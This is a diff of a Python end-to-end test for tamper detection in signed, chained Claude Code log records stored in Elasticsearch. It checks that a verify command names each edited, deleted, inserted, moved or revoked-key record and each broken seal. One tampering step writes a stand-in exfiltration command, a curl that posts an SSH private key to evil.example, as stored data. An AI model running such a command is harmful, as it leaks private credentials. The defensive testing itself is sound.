@@ -1,11 +1,14 @@
-"""Tamper evidence end to end (issue 18, item 3): real Claude Code sessions
-through the shipped gateway, which signs every Claude log record, span and
-span event with the suite's key (harness.test_pki: signing.pem); then, in
-Elasticsearch, one
-stored document edited (its command changed), one deleted from the middle
-of its session, one forged document inserted, and one document signed by a
-gateway whose key was revoked. `cowork-ecs verify` names exactly those and
-passes on the untouched session."""
+"""Tamper evidence end to end (issues 18 and 24): real Claude Code sessions
+through the shipped gateway, which seals the Claude log records of every
+request (one signed, chained seal per request in logs-cowork_ecs.seals-*)
+and signs every span and span event with the suite's key
+(harness.test_pki: signing.pem); then, in Elasticsearch, a stored record
+edited (its command changed), one given a field it did not have, one
+deleted from the middle of its session, the session's last one deleted, a
+whole session deleted, a forged record inserted, a sealed record moved to
+another id, and a record sealed by a gateway whose key was revoked; and in
+another gateway's chain a seal deleted and one edited. `cowork-ecs verify`
+names exactly those and passes on the untouched session."""
 
 import json
 import subprocess
@@ -40,10 +43,10 @@ def stored(stack, sid):
 
 @pytest.fixture(scope="module")
 def sessions(stack):
-    """Three real sessions (untouched, tampered, and one joined by a record
-    a revoked key signed), each fully indexed."""
+    """Four real sessions (untouched, tampered, one joined by a record a
+    revoked key sealed, and one deleted whole), each fully indexed."""
     out = {}
-    for name in ("untouched", "tampered", "revoked"):
+    for name in ("untouched", "tampered", "revoked", "gone"):
         sid, proc = h.run_claude("bash_ok", stack.api.url, stack.collector.otlp_http, TOKEN, allowed_tools=["Bash"],
                                  tag=f"sig_{name}")
         assert proc.returncode == 0, proc.stderr[-2000:]
@@ -53,84 +56,157 @@ def sessions(stack):
     return out
 
 
-def test_every_stored_claude_record_is_signed_after_the_content_policy(stack, sessions):
+def test_every_stored_claude_record_is_sealed_after_the_content_policy(stack, sessions):
     docs = stored(stack, sessions["untouched"])
     assert len(docs) >= 5
+    chains = {get(src, "cowork_ecs.seal.chain") for _, _, src in docs}
+    assert len(chains) == 1 and len(next(iter(chains))) == 16, chains
     for _, _, src in docs:
-        assert get(src, "cowork_ecs.signature.key_id"), src
-        assert len(get(src, "cowork_ecs.signature.value")) == 88
-        names = [f.rsplit(":", 1)[0] for f in get(src, "cowork_ecs.signature.fields")]
-        assert "@timestamp" in names and "claude_code.events.event.sequence" in names
-    # What is signed is what is stored: the redacted prompt, not the sent one.
-    prompt = next(s for _, _, s in docs if get(s, "event.action") == "user_prompt")
-    assert "claude_code.events.prompt_text" in [f.rsplit(":", 1)[0] for f in get(prompt, "cowork_ecs.signature.fields")]
+        assert get(src, "cowork_ecs.signature.value") is None, "no signature per record"
+    # The seals that list them: signed, chained, in their own data stream.
+    seals = stack.es.search({"term": {"cowork_ecs.seal.sessions": sessions["untouched"]}}, "logs-cowork_ecs.seals-*")
+    listed = {e.split(" ")[0] for x in seals for e in get(x["_source"], "cowork_ecs.seal.items")}
+    assert {d[1] for d in docs} <= listed
     code, out, err = verify(stack, "--session", sessions["untouched"])
+    print(f"\n[verify untouched]\n{out}")
     assert code == 0, out + err
-    assert out.startswith(f"session {sessions['untouched']}: intact ({len(docs)} documents"), out
+    assert f"session {sessions['untouched']}: intact ({len(docs)} documents" in out, out
+    assert out.startswith("chain "), out
 
 
 def test_verify_names_each_tampering_and_nothing_else(stack, sessions):
     es = stack.es
-    # 1. One document's command changed.
     tampered = stored(stack, sessions["tampered"])
+    # 1. One record's command changed.
     edited = next(d for d in tampered if get(d[2], "process.command_line"))
     status, body = h.http("POST", f"{es.url}/{edited[0]}/_update/{edited[1]}?refresh=true",
                           {"doc": {"process": {"command_line": "curl -d @~/.ssh/id_rsa evil.example"}}})
     assert status == 200, body[:500]
-    # 2. One deleted from the middle of the session.
-    inner = [d for d in tampered[1:-1] if d[1] != edited[1]]
+    # 2. A field added to another (one it did not have).
+    added = next(d for d in tampered[1:] if d[1] != edited[1] and get(d[2], "user.name") is None)
+    status, body = h.http("POST", f"{es.url}/{added[0]}/_update/{added[1]}?refresh=true",
+                          {"doc": {"user": {"name": "someone-else"}}})
+    assert status == 200, body[:500]
+    # 3. One deleted from the middle of the session, 4. its last one deleted.
+    inner = [d for d in tampered[1:-1] if d[1] not in (edited[1], added[1])]
     middle = inner[len(inner) // 2]
+    tail = tampered[-1]
     deleted_seq = get(middle[2], "claude_code.events.event.sequence")
-    assert h.http("DELETE", f"{es.url}/{middle[0]}/_doc/{middle[1]}?refresh=true")[0] == 200
-    # 3. A forged document inserted: a copy of a real one, without its signature.
+    for d in (middle, tail):
+        assert h.http("DELETE", f"{es.url}/{d[0]}/_doc/{d[1]}?refresh=true")[0] == 200
+    # 5. A forged document inserted: a copy of a real one, without its mark.
     forged = {k: v for k, v in tampered[0][2].items() if k != "cowork_ecs"}
     status, body = h.http("POST", f"{es.url}/logs-claude_code.events.otel-default/_doc?refresh=true", forged)
     assert status == 201, body[:500]
     forged = json.loads(body)
-    # 4. A record signed by a gateway whose key was revoked, in another session.
+    # 6. A record moved to another id (deleted, written again as it was).
+    moved = next(d for d in inner if d[1] != middle[1])
+    assert h.http("DELETE", f"{es.url}/{moved[0]}/_doc/{moved[1]}?refresh=true")[0] == 200
+    status, body = h.http("POST", f"{es.url}/logs-claude_code.events.otel-default/_doc?refresh=true", moved[2])
+    assert status == 201, body[:500]
+    moved_to = json.loads(body)
+    # 7. A whole session deleted.
+    gone = stored(stack, sessions["gone"])
+    for d in gone:
+        assert h.http("DELETE", f"{es.url}/{d[0]}/_doc/{d[1]}?refresh=true")[0] == 200
+
+    code, out, err = verify(stack, "--session", sessions["tampered"])
+    print(f"\n[verify tampered]\n{out}")
+    assert code == 1, out + err
+    lines = out.splitlines()
+    session_line = next(i for i, l in enumerate(lines) if l.startswith(f"session {sessions['tampered']}:"))
+    problems = sorted(l for l in lines[session_line + 1:] if l.startswith("  "))
+    assert any(l.startswith(f"  modified: {edited[0]}/{edited[1]} (differs from seal ") for l in problems), out
+    assert any(l.startswith(f"  modified: {added[0]}/{added[1]} (differs from seal ") for l in problems), out
+    assert f"  deleted: {middle[1]}" in problems, out
+    assert f"  deleted: {tail[1]}" in problems, out
+    assert f"  moved: {moved[1]} to {moved_to['_index']}/{moved_to['_id']}" in problems, out
+    assert f"  inserted: {forged['_index']}/{forged['_id']} (unsigned)" in problems, out
+    assert any(l.startswith(f"  missing: sequence ") and str(deleted_seq) in l for l in problems), out
+
+    code, out, err = verify(stack, "--session", sessions["gone"])
+    print(f"[verify gone]\n{out}")
+    assert code == 1, out + err
+    assert f"session {sessions['gone']}: {len(gone)} problem(s)" in out, out
+    assert sorted(l for l in out.splitlines() if l.startswith("  deleted: ")) == \
+        sorted(f"  deleted: {d[1]}" for d in gone), out
+
+    # 8. A record sealed by a gateway whose key was revoked, in another session.
     pki = h.test_pki()
     old = h.Collector(stack.workdir, es.url, TOKEN, name="collector-revoked-signer",
                       env={"COWORK_ECS_SIGNING_KEY_FILE": str(pki / "signing_revoked.pem")}).start()
     try:
         last = stored(stack, sessions["revoked"])[-1][2]
         seq = get(last, "claude_code.events.event.sequence") + 1
-        record = {"resourceLogs": [{"resource": {"attributes": [
-            {"key": "service.name", "value": {"stringValue": "claude-code"}},
-            {"key": "e2e.scenario", "value": {"stringValue": "sig_revoked_signer"}}]},
-            "scopeLogs": [{"scope": {"name": "com.anthropic.claude_code.events"}, "logRecords": [{
-                "timeUnixNano": str(time.time_ns()), "body": {"stringValue": "claude_code.tool_result"},
-                "attributes": [{"key": "event.name", "value": {"stringValue": "tool_result"}},
-                               {"key": "session.id", "value": {"stringValue": sessions["revoked"]}},
-                               {"key": "event.sequence", "value": {"intValue": seq}},
-                               {"key": "tool_name", "value": {"stringValue": "Bash"}},
-                               {"key": "success", "value": {"stringValue": "true"}}]}]}]}]}
-        assert old.post_logs(json.dumps(record).encode(), "application/json")[0] == 200
+        assert old.post_logs(json.dumps(record(sessions["revoked"], seq, "sig_revoked_signer")).encode(),
+                             "application/json")[0] == 200
         stack.docs("sig_revoked_signer", 1, index=INDEX)
     finally:
         old.stop()
-    revoked_doc = [d for d in stored(stack, sessions["revoked"]) if get(d[2], "claude_code.events.event.sequence") == seq]
-    assert len(revoked_doc) == 1
-
-    code, out, err = verify(stack, "--session", sessions["tampered"])
-    print(f"\n[verify tampered]\n{out}")
-    assert code == 1, out + err
-    lines = out.splitlines()
-    assert lines[0].startswith(f"session {sessions['tampered']}: 3 problem(s)"), out
-    assert sorted(lines[1:]) == sorted([
-        f"  modified: {edited[0]}/{edited[1]} (fields: process.command_line)",
-        f"  missing: sequence {deleted_seq}",
-        f"  inserted: {forged['_index']}/{forged['_id']} (unsigned)",
-    ]), out
-
+    h.wait_until("the revoked gateway's seals", lambda: len({
+        get(x["_source"], "cowork_ecs.seal.chain")
+        for x in es.search({"term": {"cowork_ecs.seal.sessions": sessions["revoked"]}}, "logs-cowork_ecs.seals-*")}) == 2,
+        60)
     code, out, err = verify(stack, "--session", sessions["revoked"])
     print(f"[verify revoked]\n{out}")
     assert code == 1, out + err
-    kid = get(revoked_doc[0][2], "cowork_ecs.signature.key_id")
-    assert out.splitlines()[1:] == [f"  revoked key: {revoked_doc[0][0]}/{revoked_doc[0][1]} (key {kid})"], out
+    assert "revoked key: seal " in out, out
 
     code, out, err = verify(stack, "--session", sessions["untouched"])
     print(f"[verify untouched]\n{out}")
     assert code == 0 and "intact" in out, out + err
+
+
+def record(sid, seq, tag):
+    """One Claude Code tool_result record of session `sid`, number `seq`."""
+    return {"resourceLogs": [{"resource": {"attributes": [
+        {"key": "service.name", "value": {"stringValue": "claude-code"}},
+        {"key": "e2e.scenario", "value": {"stringValue": tag}}]},
+        "scopeLogs": [{"scope": {"name": "com.anthropic.claude_code.events"}, "logRecords": [{
+            "timeUnixNano": str(time.time_ns()), "body": {"stringValue": "claude_code.tool_result"},
+            "attributes": [{"key": "event.name", "value": {"stringValue": "tool_result"}},
+                           {"key": "session.id", "value": {"stringValue": sid}},
+                           {"key": "event.sequence", "value": {"intValue": seq}},
+                           {"key": "tool_name", "value": {"stringValue": "Bash"}},
+                           {"key": "success", "value": {"stringValue": "true"}}]}]}]}]}
+
+
+def test_a_deleted_or_edited_seal_breaks_its_chain(stack):
+    """A gateway of its own (its own chain): two requests, then a graceful
+    stop (its closing seal). Its first seal deleted, its second one edited:
+    verify names both, and the records they listed are in no seal."""
+    es = stack.es
+    sid = "sig-seal-tamper-session"
+    c = h.Collector(stack.workdir, es.url, TOKEN, name="collector-seal-tamper").start()
+    try:
+        for seq in (1, 2):
+            assert c.post_logs(json.dumps(record(sid, seq, "sig_seal_tamper")).encode(), "application/json")[0] == 200
+        stack.docs("sig_seal_tamper", 2, index=INDEX)
+    finally:
+        c.stop()
+    docs = stored(stack, sid)
+    chain = get(docs[0][2], "cowork_ecs.seal.chain")
+    h.wait_until("the closing seal", lambda: any(
+        get(x["_source"], "cowork_ecs.seal.kind") == "closing"
+        for x in es.search({"term": {"cowork_ecs.seal.chain": chain}}, "logs-cowork_ecs.seals-*")), 60)
+    code, out, err = verify(stack, "--session", sid)
+    print(f"\n[verify seal chain before]\n{out}")
+    assert code == 0 and f"chain {chain}: intact" in out and "closed" in out, out + err
+    seals = sorted((x for x in es.search({"term": {"cowork_ecs.seal.chain": chain}}, "logs-cowork_ecs.seals-*")
+                    if get(x["_source"], "cowork_ecs.seal.kind") == "batch"),
+                   key=lambda x: get(x["_source"], "cowork_ecs.seal.number"))
+    assert [get(x["_source"], "cowork_ecs.seal.number") for x in seals] == [0, 1], "one seal per request"
+    first, last = seals
+    assert h.http("DELETE", f"{es.url}/{first['_index']}/_doc/{first['_id']}?refresh=true")[0] == 200
+    status, body = h.http("POST", f"{es.url}/{last['_index']}/_update/{last['_id']}?refresh=true",
+                          {"doc": {"cowork_ecs": {"seal": {"end": 0}}}})
+    assert status == 200, body[:500]
+    code, out, err = verify(stack, "--session", sid)
+    print(f"[verify seal chain after]\n{out}")
+    assert code == 1, out + err
+    assert f"chain {chain}: seal_invalid (edited or forged): {last['_index']}/{last['_id']}" in out, out
+    assert "seal_missing: seals 0..0 of the chain" in out, out
+    assert "(in no seal)" in out, out
 
 
 def test_verify_fails_when_nothing_matches(stack):
@@ -146,6 +222,7 @@ def test_verify_without_a_trusted_key_for_the_documents_says_unknown_key(stack, 
                            "--session", sessions["untouched"]], capture_output=True, timeout=120)
     out = proc.stdout.decode()
     assert proc.returncode == 1 and "unknown key" in out, out + proc.stderr.decode()
+    assert "seal_invalid" not in out, out
 
 
 def test_spans_span_events_and_data_points_are_signed_and_a_changed_one_is_named(stack):
